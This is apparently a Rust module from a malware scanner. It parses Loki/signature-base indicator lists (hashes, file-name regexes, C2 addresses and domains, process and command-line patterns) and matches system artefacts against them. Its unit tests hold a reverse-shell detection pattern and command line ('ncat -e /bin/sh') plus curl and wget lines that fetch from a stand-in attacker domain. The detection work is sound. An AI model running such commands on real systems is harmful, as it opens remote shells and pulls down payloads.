//! Loki / signature-base indicator files.
//!
//! Which list a file holds is told by its name, as Loki does: a name containing `hash` is a hash
//! list, `filename` a file-name list, `c2` a C2 list, `process` a process-name list and `cmdline`
//! a command-line list. Formats, one indicator per line, `#` starts a comment:
//!
//! ```text
//! hash      MD5|SHA1|SHA256;COMMENT
//! filename  REGEX;SCORE[;FALSE_POSITIVE_REGEX]     matched against the full path
//! c2        IP | CIDR | DOMAIN[;COMMENT]
//! process   PROCESS_NAME_REGEX;SCORE[;COMMENT]
//! cmdline   CMDLINE_REGEX;SCORE[;COMMENT]
//! ```
//!
//! Files ending in `.jsonl` hold imported threat intelligence instead (see [`crate::intel`]).
//!
//! A line that does not parse is reported with file, line number and reason and the rest loads.
//! Regexes the `regex` crate cannot take (look-around, back-references) are compiled with
//! `fancy-regex`; only a regex neither accepts is reported.

use std::collections::HashMap;
use std::net::IpAddr;
use std::path::Path;
use std::sync::Arc;

use crate::ParseError;
use crate::intel::{FileFacts, Intel};
use crate::pathset::PathSet;
use crate::rules::{IndicatorRef, MatchKind, Origin, Problem, RuleMatch};

/// Which list a file holds, from its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IocKind {
    Hash,
    Filename,
    C2,
    ProcessName,
    Cmdline,
    /// Imported STIX and MISP indicators, JSON lines.
    Intel,
}

impl IocKind {
    pub fn of_path(path: &Path) -> Option<IocKind> {
        let name = path.file_name()?.to_string_lossy().to_lowercase();
        if name == crate::findings::FILE {
            // The settings of built-in findings, not indicators.
            None
        } else if name.ends_with(".jsonl") {
            Some(IocKind::Intel)
        } else if name.contains("hash") {
            Some(IocKind::Hash)
        } else if name.contains("filename") {
            Some(IocKind::Filename)
        } else if name.contains("c2") {
            Some(IocKind::C2)
        } else if name.contains("cmdline") {
            Some(IocKind::Cmdline)
        } else if name.contains("process") {
            Some(IocKind::ProcessName)
        } else {
            None
        }
    }
}

/// Counts per list kind: accepted and rejected lines.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct IocCounts {
    pub hashes: usize,
    pub filenames: usize,
    pub filenames_fancy: usize,
    pub c2_ips: usize,
    pub c2_networks: usize,
    pub c2_domains: usize,
    pub process_names: usize,
    pub cmdlines: usize,
    /// Imported indicators loaded (STIX patterns; YARA ones count as YARA rules).
    pub intel: usize,
    /// Imported indicators past their `valid_until`.
    pub intel_expired: usize,
    pub rejected: usize,
}

/// One regex, in whichever engine accepts it.
enum Re {
    Std(regex::Regex),
    Fancy(Box<fancy_regex::Regex>),
    /// A standard regex matched only through a [`PathSet`], which compiles it when a path
    /// holds its literal.
    InSet,
}

impl Re {
    /// A file-name pattern: checked now, matched later through a [`PathSet`] with the others
    /// ([`Iocs::finish`]); each regex compiled up front costs memory, and signature-base has
    /// thousands.
    fn for_set(pattern: &str) -> Result<Re, ParseError> {
        match regex_syntax::Parser::new().parse(pattern) {
            Ok(_) => Ok(Re::InSet),
            Err(_) => Re::new(pattern),
        }
    }

    fn new(pattern: &str) -> Result<Re, ParseError> {
        match regex::RegexBuilder::new(pattern)
            .size_limit(32 << 20)
            .build()
        {
            Ok(r) => Ok(Re::Std(r)),
            Err(std_err) => match fancy_regex::Regex::new(pattern) {
                Ok(r) => Ok(Re::Fancy(Box::new(r))),
                Err(_) => Err(format!(
                    "regex does not compile: {}",
                    first_line(&std_err.to_string())
                )
                .into()),
            },
        }
    }

    fn is_match(&self, s: &str) -> bool {
        match self {
            Re::Std(r) => r.is_match(s),
            // A backtracking limit hit counts as no match rather than an error.
            Re::Fancy(r) => r.is_match(s).unwrap_or(false),
            // Matched by its set, never one by one.
            Re::InSet => false,
        }
    }

    fn is_fancy(&self) -> bool {
        matches!(self, Re::Fancy(_))
    }
}

fn first_line(s: &str) -> &str {
    s.lines().last().unwrap_or(s).trim()
}

struct Indicator {
    re: Re,
    fp: Option<Re>,
    /// Written for Windows paths (contains an escaped `\\`): matched against the path with `\`
    /// separators; every other pattern is matched against the path as it is.
    windows: bool,
    score: u32,
    text: String,
    source: String,
    origin: Origin,
}

impl Indicator {
    fn to_match(&self, kind: MatchKind) -> RuleMatch {
        RuleMatch {
            kind,
            rule: self.text.clone(),
            source: self.source.clone(),
            score: self.score,
            description: String::new(),
            author: String::new(),
            reference: String::new(),
            indicator: loki(&self.source, self.origin),
        }
    }
}

/// Provenance of a Loki indicator: its `file:line`.
fn loki(source: &str, origin: Origin) -> Arc<IndicatorRef> {
    Arc::new(IndicatorRef::new("loki", source, origin))
}

struct HashIoc {
    comment: String,
    source: String,
    origin: Origin,
}

/// Every loaded indicator, ready to match.
#[derive(Default)]
pub struct Iocs {
    md5: HashMap<String, HashIoc>,
    sha1: HashMap<String, HashIoc>,
    sha256: HashMap<String, HashIoc>,
    filenames: Vec<Indicator>,
    /// Standard regexes of `filenames`, matched together per path form (native, Windows);
    /// they give indices into `filenames`.
    filename_sets: Vec<(PathSet, bool)>,
    /// File-name indicators matched one by one (look-around, or a set too large to build).
    filename_singles: Vec<usize>,
    c2_ips: HashMap<IpAddr, (String, String, Origin)>,
    c2_nets: Vec<(IpAddr, u8, String, String, Origin)>,
    c2_domains: DomainIndex<(String, String, Origin)>,
    process_names: Vec<Indicator>,
    cmdlines: Vec<Indicator>,
    intel: Intel,
    pub counts: IocCounts,
}

/// Score given to hash and C2 indicators, which carry none.
const FIXED_SCORE: u32 = 100;

impl Iocs {
    /// Parses one indicator file of the given kind; problems are appended to `problems`.
    pub fn add_file(
        &mut self,
        kind: IocKind,
        origin: &Path,
        from: Origin,
        text: &str,
        problems: &mut Vec<Problem>,
    ) {
        if kind == IocKind::Intel {
            let before = problems.len();
            self.intel.add_file(origin, text, problems);
            self.counts.rejected += problems.len() - before;
            self.counts.intel = self.intel.loaded;
            self.counts.intel_expired = self.intel.expired;
            return;
        }
        let name = origin
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        for (i, raw) in text.lines().enumerate() {
            let line = raw.trim_end_matches('\r');
            if line.trim().is_empty() || line.trim_start().starts_with('#') {
                continue;
            }
            let source = format!("{name}:{}", i + 1);
            let result = match kind {
                IocKind::Hash => self.add_hash(line, source, from),
                IocKind::Filename => self.add_filename(line, source, from),
                IocKind::C2 => self.add_c2(line, source, from),
                IocKind::ProcessName => parse_scored(line, source, from, false).map(|ind| {
                    self.counts.process_names += 1;
                    self.process_names.push(ind)
                }),
                IocKind::Cmdline => parse_scored(line, source, from, false).map(|ind| {
                    self.counts.cmdlines += 1;
                    self.cmdlines.push(ind)
                }),
                IocKind::Intel => Ok(()),
            };
            if let Err(reason) = result {
                self.counts.rejected += 1;
                problems.push(Problem {
                    path: origin.to_owned(),
                    line: Some(i + 1),
                    reason: reason.to_string(),
                    kind: crate::ProblemKind::Indicator,
                    origin: crate::Origin::Local,
                });
            }
        }
    }

    fn add_hash(&mut self, line: &str, source: String, origin: Origin) -> Result<(), ParseError> {
        let (hash, comment) = line.split_once(';').unwrap_or((line, ""));
        let hash = hash.trim().to_ascii_lowercase();
        if !hash.chars().all(|c| c.is_ascii_hexdigit()) {
            return Err(format!("`{}` is not a hex digest", clip(&hash)).into());
        }
        let map = match hash.len() {
            32 => &mut self.md5,
            40 => &mut self.sha1,
            64 => &mut self.sha256,
            n => {
                return Err(format!(
                    "a digest of {n} hex digits is neither MD5, SHA-1 nor SHA-256"
                )
                .into());
            }
        };
        map.insert(
            hash,
            HashIoc {
                comment: comment.trim().to_string(),
                source,
                origin,
            },
        );
        self.counts.hashes += 1;
        Ok(())
    }

    fn add_filename(&mut self, line: &str, source: String, from: Origin) -> Result<(), ParseError> {
        let ind = parse_scored(line, source, from, true)?;
        if ind.re.is_fancy() {
            self.counts.filenames_fancy += 1;
        }
        self.counts.filenames += 1;
        self.filenames.push(ind);
        Ok(())
    }

    fn add_c2(&mut self, line: &str, source: String, from: Origin) -> Result<(), ParseError> {
        let (value, comment) = line.split_once(';').unwrap_or((line, ""));
        let value = value.trim();
        let entry = (value.to_string(), source);
        let _ = comment;
        if let Ok(ip) = value.parse::<IpAddr>() {
            self.c2_ips.insert(ip, (entry.0, entry.1, from));
            self.counts.c2_ips += 1;
            return Ok(());
        }
        if let Some((net, bits)) = value.split_once('/') {
            let ip: IpAddr = net
                .parse()
                .map_err(|_| format!("`{}` is not an IP network", clip(value)))?;
            let bits: u8 = bits
                .parse()
                .map_err(|_| format!("`{}` has a bad prefix length", clip(value)))?;
            let max = if ip.is_ipv4() { 32 } else { 128 };
            if bits > max {
                return Err(format!("`{}` has a prefix longer than {max}", clip(value)).into());
            }
            self.c2_nets.push((ip, bits, entry.0, entry.1, from));
            self.counts.c2_networks += 1;
            return Ok(());
        }
        if crate::domains::normalise(value).is_some_and(|n| is_domain(&n)) {
            // A C2 domain covers its subdomains (`crate::domains`).
            self.c2_domains
                .insert(value, Reach::AndSubdomains, (entry.0, entry.1, from));
            self.counts.c2_domains += 1;
            return Ok(());
        }
        Err(format!(
            "`{}` is neither an IP address, a network nor a domain",
            clip(value)
        )
        .into())
    }

    /// Compiles the one-pass sets of standard file-name regexes. Call once after loading.
    pub fn finish(&mut self) {
        for windows in [false, true] {
            let index: Vec<usize> = (0..self.filenames.len())
                .filter(|&i| {
                    let ind = &self.filenames[i];
                    matches!(ind.re, Re::InSet) && ind.windows == windows
                })
                .collect();
            if index.is_empty() {
                continue;
            }
            let patterns = index.iter().map(|&i| (i, self.filenames[i].text.as_str()));
            match PathSet::build(patterns) {
                Ok(set) => self.filename_sets.push((set, windows)),
                Err(_) => {
                    // The patterns without literals are too large as one set: all are
                    // matched one by one instead.
                    for i in index {
                        let ind = &mut self.filenames[i];
                        match Re::new(&ind.text) {
                            Ok(re) => {
                                ind.re = re;
                                self.filename_singles.push(i);
                            }
                            Err(e) => {
                                tracing::warn!(source = %ind.source, pattern = %clip(&ind.text), error = %e, "file-name indicator left out");
                            }
                        }
                    }
                }
            }
        }
        for (i, ind) in self.filenames.iter().enumerate() {
            if ind.re.is_fancy() {
                self.filename_singles.push(i);
            }
        }
    }

    pub fn wants_md5(&self) -> bool {
        !self.md5.is_empty() || self.intel.wants_md5()
    }
    pub fn wants_sha1(&self) -> bool {
        !self.sha1.is_empty() || self.intel.wants_sha1()
    }
    pub fn wants_sha256(&self) -> bool {
        !self.sha256.is_empty() || self.intel.wants_sha256()
    }
    pub fn has_filenames(&self) -> bool {
        !self.filenames.is_empty()
    }
    pub fn has_process_indicators(&self) -> bool {
        !self.process_names.is_empty()
            || !self.cmdlines.is_empty()
            || !self.c2_domains.is_empty()
            || self.intel.has_processes()
    }
    pub fn has_c2(&self) -> bool {
        !self.c2_ips.is_empty() || !self.c2_nets.is_empty() || self.intel.has_addresses()
    }
    pub fn has_intel_files(&self) -> bool {
        self.intel.has_files()
    }

    /// Imported indicators matching a file (its name is the last component of `path`).
    pub fn match_intel_file(
        &self,
        path: &str,
        md5: Option<&str>,
        sha1: Option<&str>,
        sha256: Option<&str>,
        out: &mut Vec<RuleMatch>,
    ) {
        if self.intel.is_empty() {
            return;
        }
        let name = path.rsplit('/').next().unwrap_or(path);
        self.intel.match_file(
            &FileFacts {
                name,
                md5,
                sha1,
                sha256,
            },
            out,
        );
    }

    /// Hash indicators matching the given hex digests.
    pub fn match_hashes(
        &self,
        md5: Option<&str>,
        sha1: Option<&str>,
        sha256: Option<&str>,
        out: &mut Vec<RuleMatch>,
    ) {
        // One match per sample: a list naming its MD5 and its SHA-256 is one sighting, under
        // the strongest digest listed.
        for (map, digest) in [(&self.sha256, sha256), (&self.sha1, sha1), (&self.md5, md5)] {
            if let Some(h) = digest.and_then(|d| map.get(d).map(|h| (d, h))) {
                out.push(RuleMatch {
                    kind: MatchKind::Hash,
                    rule: h.0.to_string(),
                    source: h.1.source.clone(),
                    score: FIXED_SCORE,
                    description: h.1.comment.clone(),
                    author: String::new(),
                    reference: String::new(),
                    indicator: loki(&h.1.source, h.1.origin),
                });
                return;
            }
        }
    }

    /// File-name indicators matching a path. Loki's lists are written for Windows paths: a pattern
    /// with an escaped backslash is matched against the path with `\` as separator.
    pub fn match_path(&self, path: &str, out: &mut Vec<RuleMatch>) {
        if self.filenames.is_empty() {
            return;
        }
        let windows = path.replace('/', "\\");
        let form = |ind: &Indicator| if ind.windows { windows.as_str() } else { path };
        // Set members matched already; the others are tried one by one.
        let mut matched: Vec<usize> = self
            .filename_singles
            .iter()
            .copied()
            .filter(|&i| self.filenames[i].re.is_match(form(&self.filenames[i])))
            .collect();
        for (set, win) in &self.filename_sets {
            set.matches(if *win { &windows } else { path }, &mut matched);
        }
        matched.sort_unstable();
        matched.dedup();
        for i in matched {
            let ind = &self.filenames[i];
            if !ind.fp.as_ref().is_some_and(|fp| fp.is_match(form(ind))) {
                out.push(ind.to_match(MatchKind::Filename));
            }
        }
    }

    /// Process-name and command-line indicators matching a process.
    pub fn match_process(&self, name: &str, cmdline: &str, out: &mut Vec<RuleMatch>) {
        for ind in &self.process_names {
            if ind.re.is_match(name) && !ind.fp.as_ref().is_some_and(|fp| fp.is_match(name)) {
                out.push(ind.to_match(MatchKind::Process));
            }
        }
        for ind in &self.cmdlines {
            if ind.re.is_match(cmdline) && !ind.fp.as_ref().is_some_and(|fp| fp.is_match(cmdline)) {
                out.push(ind.to_match(MatchKind::Process));
            }
        }
        if !self.c2_domains.is_empty() {
            let mut named = Vec::new();
            for token in crate::intel::domain_tokens(cmdline) {
                for (text, source, from) in self.c2_domains.lookup(&token) {
                    if named.contains(&text) {
                        continue;
                    }
                    named.push(text);
                    out.push(RuleMatch {
                        kind: MatchKind::Process,
                        rule: text.clone(),
                        indicator: loki(source, *from),
                        source: source.clone(),
                        score: FIXED_SCORE,
                        description: format!("the command line names {token}"),
                        author: String::new(),
                        reference: String::new(),
                    });
                }
            }
        }
        self.intel.match_process(name, cmdline, out);
    }

    /// Whether any indicator names a domain (a Loki C2 domain, a STIX or MISP one).
    pub fn has_domains(&self) -> bool {
        !self.c2_domains.is_empty() || self.intel.has_domains()
    }

    /// The domain indicators a name asked in a DNS query matches: the Loki C2 list's first
    /// (a listed domain covers its subdomains), then imported ones (as their source says).
    pub fn match_domain(&self, name: &str) -> Vec<RuleMatch> {
        match crate::domains::normalise(name) {
            Some(name) => self.match_domain_normal(&name),
            None => Vec::new(),
        }
    }

    /// [`match_domain`](Self::match_domain) of a name already in the one form
    /// [`normalise`](crate::domains::normalise) gives.
    pub fn match_domain_normal(&self, name: &str) -> Vec<RuleMatch> {
        let mut out = Vec::new();
        for (text, source, from) in self.c2_domains.lookup_normal(name) {
            out.push(RuleMatch {
                kind: MatchKind::Connection,
                rule: text.clone(),
                indicator: loki(source, *from),
                source: source.clone(),
                score: FIXED_SCORE,
                description: format!("a DNS query asked for {name}"),
                author: String::new(),
                reference: String::new(),
            });
        }
        self.intel.match_domain(name, &mut out);
        out
    }

    /// The C2 indicators a remote address matches: the Loki list's first, then imported ones.
    pub fn match_ip(&self, ip: IpAddr) -> Vec<RuleMatch> {
        let ip = match ip {
            IpAddr::V6(v6) => v6.to_ipv4_mapped().map(IpAddr::V4).unwrap_or(ip),
            v4 => v4,
        };
        let mut out = Vec::new();
        let hit = self.c2_ips.get(&ip).cloned().or_else(|| {
            self.c2_nets
                .iter()
                .find(|(net, bits, ..)| in_network(ip, *net, *bits))
                .map(|(_, _, text, source, from)| (text.clone(), source.clone(), *from))
        });
        if let Some((text, source, from)) = hit {
            out.push(RuleMatch {
                kind: MatchKind::Connection,
                rule: text,
                indicator: loki(&source, from),
                source,
                score: FIXED_SCORE,
                description: String::new(),
                author: String::new(),
                reference: String::new(),
            });
        }
        self.intel.match_address(ip, &mut out);
        out
    }
}

/// `REGEX;SCORE[;FALSE_POSITIVE_REGEX]`.
fn parse_scored(
    line: &str,
    source: String,
    origin: Origin,
    in_set: bool,
) -> Result<Indicator, ParseError> {
    // The regex itself may contain `;`: the score is the first field after it that is a number.
    let parts: Vec<&str> = line.split(';').collect();
    let score_at = parts
        .iter()
        .enumerate()
        .skip(1)
        .find(|(_, p)| p.trim().parse::<u32>().is_ok())
        .map(|(i, _)| i)
        .ok_or_else(|| {
            "no `;SCORE` field (expected REGEX;SCORE[;FALSE_POSITIVE_REGEX])".to_string()
        })?;
    let pattern = parts[..score_at].join(";");
    if pattern.trim().is_empty() {
        return Err("empty regex".into());
    }
    let score: u32 = parts[score_at]
        .trim()
        .parse()
        .map_err(|_| "bad score".to_string())?;
    let fp_text = parts[score_at + 1..].join(";");
    let re = if in_set {
        Re::for_set(&pattern)?
    } else {
        Re::new(&pattern)?
    };
    let fp = if fp_text.trim().is_empty() {
        None
    } else {
        Some(Re::new(&fp_text).map_err(|e| format!("false-positive {e}"))?)
    };
    Ok(Indicator {
        re,
        fp,
        windows: pattern.contains("\\\\"),
        score: score.min(100),
        text: pattern,
        source,
        origin,
    })
}

use crate::domains::{DomainIndex, Reach};
use crate::stix::is_domain;

pub(crate) fn in_network(ip: IpAddr, net: IpAddr, bits: u8) -> bool {
    match (ip, net) {
        (IpAddr::V4(a), IpAddr::V4(n)) => {
            let mask = if bits == 0 {
                0
            } else {
                u32::MAX << (32 - u32::from(bits))
            };
            u32::from(a) & mask == u32::from(n) & mask
        }
        (IpAddr::V6(a), IpAddr::V6(n)) => {
            let mask = if bits == 0 {
                0
            } else {
                u128::MAX << (128 - u32::from(bits))
            };
            u128::from(a) & mask == u128::from(n) & mask
        }
        _ => false,
    }
}

fn clip(s: &str) -> String {
    s.chars().take(80).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn load(kind: IocKind, text: &str) -> (Iocs, Vec<Problem>) {
        let mut iocs = Iocs::default();
        let mut problems = Vec::new();
        iocs.add_file(kind, Path::new("t.txt"), Origin::Local, text, &mut problems);
        iocs.finish();
        (iocs, problems)
    }

    #[test]
    fn a_sample_listed_by_several_digests_is_one_match_under_the_strongest() {
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        let (iocs, problems) = load(
            IocKind::Hash,
            &format!("{md5};empty file (md5)\n{sha256};empty file (sha256)\n"),
        );
        assert!(problems.is_empty(), "{problems:?}");
        let mut out = Vec::new();
        iocs.match_hashes(Some(md5), None, Some(sha256), &mut out);
        assert_eq!(out.len(), 1, "{out:?}");
        assert_eq!(out[0].rule, sha256);
        assert_eq!(out[0].description, "empty file (sha256)");
        let mut out = Vec::new();
        iocs.match_hashes(Some(md5), None, None, &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].rule, md5);
    }

    #[test]
    fn bad_lines_are_reported_and_the_rest_loads() {
        let (iocs, problems) = load(
            IocKind::Hash,
            "# comment\n\nd41d8cd98f00b204e9800998ecf8427e;empty\nnothex;x\nabc;short\n",
        );
        assert_eq!(iocs.counts.hashes, 1);
        assert_eq!(problems.len(), 2);
        assert_eq!(problems[0].line, Some(4));
        assert_eq!(problems[1].line, Some(5));
        assert!(
            problems[1].to_string().starts_with("t.txt:5: "),
            "{}",
            problems[1]
        );
    }

    #[test]
    fn filename_regex_with_false_positive_and_look_around() {
        let (iocs, problems) = load(
            IocKind::Filename,
            "\\\\procdump(64)?\\.exe;50;(?i)SysInternals\\\\\n/tmp/(?!safe)[a-z]+\\.elf;70\n(unclosed;60\n",
        );
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert_eq!(problems[0].line, Some(3));
        assert_eq!(iocs.counts.filenames_fancy, 1);
        let m = |p: &str| {
            let mut v = Vec::new();
            iocs.match_path(p, &mut v);
            v.into_iter().map(|m| m.score).collect::<Vec<_>>()
        };
        assert_eq!(m("/opt/tools/procdump.exe"), vec![50]);
        assert_eq!(m("/opt/SysInternals/procdump.exe"), Vec::<u32>::new());
        assert_eq!(m("/tmp/evil.elf"), vec![70]);
        assert_eq!(m("/tmp/safe.elf"), Vec::<u32>::new());
    }

    #[test]
    fn c2_ips_networks_and_domains() {
        let (iocs, problems) = load(
            IocKind::C2,
            "10.1.2.3\n192.0.2.0/24\nevil.example\nnot a host\n",
        );
        assert_eq!(problems.len(), 1);
        assert_eq!(iocs.counts.c2_domains, 1);
        assert_eq!(iocs.match_ip("10.1.2.3".parse().unwrap()).len(), 1);
        assert_eq!(iocs.match_ip("::ffff:10.1.2.3".parse().unwrap()).len(), 1);
        let net = iocs.match_ip("192.0.2.77".parse().unwrap());
        assert_eq!(net[0].rule, "192.0.2.0/24");
        assert_eq!(net[0].indicator.source, "loki");
        assert_eq!(net[0].indicator.id, "t.txt:2");
        assert!(iocs.match_ip("192.0.3.1".parse().unwrap()).is_empty());
        // A C2 domain in a command line, and its subdomains; not a longer name.
        assert!(iocs.has_process_indicators());
        for (cmdline, hits) in [
            ("curl -s https://evil.example/x", 1),
            ("wget http://cdn.EVIL.example./payload evil.example", 1),
            ("curl https://notevil.example/", 0),
            ("curl https://evil.example.org/", 0),
        ] {
            let mut out = Vec::new();
            iocs.match_process("curl", cmdline, &mut out);
            assert_eq!(out.len(), hits, "{cmdline}: {out:?}");
            if let Some(m) = out.first() {
                assert_eq!(
                    (m.rule.as_str(), m.indicator.id.as_str()),
                    ("evil.example", "t.txt:3")
                );
            }
        }
        // The same domain asked in a DNS query: itself and its subdomains, case and the
        // trailing dot aside; not a longer name.
        assert!(iocs.has_domains());
        for (name, hits) in [
            ("evil.example", 1),
            ("Beacon.CDN.evil.example.", 1),
            ("notevil.example", 0),
            ("evil.example.org", 0),
            ("", 0),
        ] {
            let out = iocs.match_domain(name);
            assert_eq!(out.len(), hits, "{name}: {out:?}");
            if let Some(m) = out.first() {
                assert_eq!(m.indicator.id, "t.txt:3");
            }
        }
    }

    #[test]
    fn process_names_and_command_lines() {
        let (p, _) = load(IocKind::ProcessName, "^xmrig$;90\n");
        let (c, _) = load(IocKind::Cmdline, "(?i)nc(at)? -e /bin/sh;80\n");
        let mut v = Vec::new();
        p.match_process("xmrig", "", &mut v);
        c.match_process("bash", "ncat -e /bin/sh 1.2.3.4", &mut v);
        c.match_process("bash", "ls", &mut v);
        assert_eq!(v.iter().map(|m| m.score).collect::<Vec<_>>(), vec![90, 80]);
    }

    #[test]
    fn list_kind_comes_from_the_file_name() {
        assert_eq!(
            IocKind::of_path(Path::new("x/hash-iocs.txt")),
            Some(IocKind::Hash)
        );
        assert_eq!(
            IocKind::of_path(Path::new("filename-iocs.txt")),
            Some(IocKind::Filename)
        );
        assert_eq!(
            IocKind::of_path(Path::new("c2-iocs.txt")),
            Some(IocKind::C2)
        );
        assert_eq!(
            IocKind::of_path(Path::new("process-iocs.txt")),
            Some(IocKind::ProcessName)
        );
        assert_eq!(
            IocKind::of_path(Path::new("cmdline-iocs.txt")),
            Some(IocKind::Cmdline)
        );
        assert_eq!(IocKind::of_path(Path::new("keywords.txt")), None);
    }
}
